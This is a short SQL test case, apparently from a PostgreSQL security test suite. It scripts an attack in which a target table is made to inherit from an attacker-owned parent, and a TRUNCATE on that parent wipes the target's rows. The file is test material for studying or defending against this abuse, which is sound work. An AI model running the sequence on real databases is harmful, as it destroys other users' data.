-- Attack: the table put under a parent of the attacker
-- As: owner, superuser
-- On: plain
-- Travels: yes

CREATE TABLE evil.parent (LIKE {target} INCLUDING GENERATED);
ALTER TABLE {target} INHERIT evil.parent;
TRUNCATE evil.parent;
